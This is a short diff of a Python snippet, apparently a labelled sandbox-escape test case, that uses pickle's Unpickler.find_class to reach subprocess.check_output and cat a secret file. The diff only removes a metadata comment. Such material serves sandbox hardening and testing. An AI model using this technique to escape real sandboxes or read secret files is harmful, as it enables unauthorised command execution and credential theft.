@@ -1,6 +1,5 @@
 # An unpickler's find_class answers any module's function.
 # breach: secret
-# state: kept
 import io, pickle
 find = pickle.Unpickler(io.BytesIO()).find_class
 find("subprocess", "check_output")(["cat", SECRET_FILE])
